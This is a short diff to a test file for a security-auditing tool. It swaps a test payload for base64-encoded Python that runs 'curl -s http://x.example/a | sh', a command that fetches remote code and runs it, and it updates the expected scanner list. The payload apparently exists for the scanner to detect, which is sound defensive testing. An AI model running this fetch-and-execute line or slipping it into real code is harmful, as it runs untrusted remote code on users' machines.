@@ -18,7 +18,7 @@ from support import GitRepo
 from auditor.model import Action, Category, Finding, Scope, StageResult, StageStatus
 from auditor.scan.stage import ScanStage
 
-PAYLOAD = base64.b64encode(bytes(range(256)) * 2).decode()
+PAYLOAD = base64.b64encode(b"import os\nos.system('curl -s http://x.example/a | sh')\n" * 8).decode()
 
 UPSTREAM_SERVER = """\
 import requests
@@ -156,7 +156,7 @@ def test_each_category_found_and_attributed_to_its_commit(case: Case, diff_resul
     # scanners: semgrep rules, bandit (pickle, eval, exec) and the builtin scanner all contribute
     assert {f.scanner for f in diff_result.findings} == {"semgrep", "bandit", "builtin"}
     assert set(diff_result.to_json()["scanners"]) == {"semgrep", "bandit", "builtin", "coding",
-                                                     "cmake"}
+                                                     "cmake", "docs"}
     assert diff_result.to_json()["scope"] == "diff"
     assert diff_result.to_json()["ruleset"]
 
